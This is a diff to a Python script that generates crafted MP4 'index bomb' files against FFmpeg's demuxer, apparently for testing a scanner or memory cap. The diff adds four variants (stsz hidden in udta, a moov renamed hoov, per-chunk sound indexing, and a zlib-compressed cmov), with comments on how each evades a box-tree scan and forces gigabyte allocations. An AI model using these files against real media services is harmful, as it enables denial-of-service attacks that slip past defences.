@@ -20,6 +20,9 @@ By default the files are written next to this script:
                         per sample: ~2.9 GB RSS.
   index_bomb_sound.mp4  the same 16 tracks as index_bomb_multi, labelled sound (hdlr soun) with an stts delta
                         of 1024: still indexed per sample.
+  index_bomb_udta.mp4, index_bomb_hoov.mp4, index_bomb_chunks.mp4, index_bomb_cmov.mp4
+                        the variants a second review found (see build_traks below): the stsz inside udta, the moov
+                        renamed hoov, per-chunk sound indexing with 2^31 samples a chunk, a zlib-compressed moov.
   index_bomb_multi.mp4  16 tracks x 5,500,000 samples.  Each track's index is 132 MB, which
                         fits under av_max_alloc(128 MiB) and av_max_alloc(256 MiB), so a
                         per-allocation cap does not stop it: ~2.1 GB in total.
@@ -239,6 +242,55 @@ def frag_bomb(n_samples):
     return ftyp(b"iso6", (b"iso6", b"isom", b"avc1", b"mp41")) + moov + m + box("mdat", SAMPLE)
 
 
+# ---------------------------------------------------------------------------------------
+# Variants found by a second review, each of which a first scan of the box tree let through: FFmpeg parses boxes by
+# type wherever they stand, takes a 'hoov' whose first child is mvhd for the moov, inflates a compressed 'cmov', and
+# indexes an old-audio sound track per chunk (stts one tick), where stsc may claim 2^31 samples per chunk.
+def build_traks(trakf, tracks, n_samples, head_box="moov"):
+    def build(offset):
+        return ftyp() + box(head_box, mvhd(ms(n_samples), tracks + 1), *[trakf(t + 1, n_samples, offset)
+                                                                        for t in range(tracks)])
+    head = build(0)
+    head = build(len(head) + 8)
+    return head + box("mdat", SAMPLE)
+
+
+def udta_trak(track_id, n_samples, offset):
+    # stbl claims one sample; the huge stsz sits in trak/udta, which mov_read_default reads like any container.
+    tables = box("stbl", stsd(), full_box("stts", 0, 0, struct.pack(">III", 1, n_samples, 1)),
+                 full_box("stsc", 0, 0, struct.pack(">IIII", 1, 1, n_samples, 1)),
+                 full_box("stsz", 0, 0, struct.pack(">II", SAMPLE_SIZE, 1)),
+                 full_box("stco", 0, 0, struct.pack(">II", 1, offset)))
+    return box("trak", tkhd(track_id, ms(n_samples)),
+               box("mdia", mdhd(n_samples), hdlr(), box("minf", full_box("vmhd", 0, 1, b"\0" * 8), dinf(), tables)),
+               box("udta", full_box("stsz", 0, 0, struct.pack(">II", SAMPLE_SIZE, n_samples))))
+
+
+def chunk_trak(track_id, _n_samples, offset):
+    # Sound, stts one entry of duration 1: indexed per chunk, ceil(samples/1024) entries (GSM: /160) per chunk, and
+    # stsc claims 0x7FFFFFFF samples in each of 5 chunks: about 250 MB of index per track.
+    tables = box("stbl", stsd(), full_box("stts", 0, 0, struct.pack(">III", 1, 1, 1)),
+                 full_box("stsc", 0, 0, struct.pack(">IIII", 1, 1, 0x7FFFFFFF, 1)),
+                 full_box("stsz", 0, 0, struct.pack(">II", 1, 1)),
+                 full_box("stco", 0, 0, struct.pack(">IIIIII", 5, offset, offset, offset, offset, offset)))
+    return box("trak", tkhd(track_id, 1000),
+               box("mdia", mdhd(1), hdlr(b"soun"), box("minf", full_box("vmhd", 0, 1, b"\0" * 8), dinf(), tables)))
+
+
+def cmov_bomb(n_samples, tracks):
+    import zlib
+
+    def build(offset):
+        inner = box("moov", mvhd(ms(n_samples), tracks + 1),
+                    *[trak(t + 1, n_samples, stbl(n_samples, offset), ms(n_samples)) for t in range(tracks)])
+        packed = zlib.compress(inner, 9)
+        return ftyp() + box("moov", box("cmov", box("dcom", b"zlib"),
+                                        box("cmvd", struct.pack(">I", len(inner)), packed)))
+    head = build(0)
+    head = build(len(head) + 8)
+    return head + box("mdat", SAMPLE)
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     ap.add_argument("--out", default=os.path.dirname(os.path.abspath(__file__)))
@@ -253,6 +305,10 @@ def main():
         # duration 1 (old uncompressed audio); with a duration of 1024 it indexes every claimed sample (found in
         # review: a scan that skipped every uniform-size sound track let this through, 2.1 GB).
         "index_bomb_sound.mp4": plain_bomb(MULTI_SAMPLES, tracks=MULTI_TRACKS, kind=b"soun", delta=1024),
+        "index_bomb_udta.mp4": build_traks(udta_trak, MULTI_TRACKS, MULTI_SAMPLES),
+        "index_bomb_hoov.mp4": plain_bomb(MULTI_SAMPLES, tracks=MULTI_TRACKS).replace(b"moov", b"hoov", 1),
+        "index_bomb_chunks.mp4": build_traks(chunk_trak, MULTI_TRACKS, 1),
+        "index_bomb_cmov.mp4": cmov_bomb(MULTI_SAMPLES, MULTI_TRACKS),
     }
     if args.extra:
         files.update({
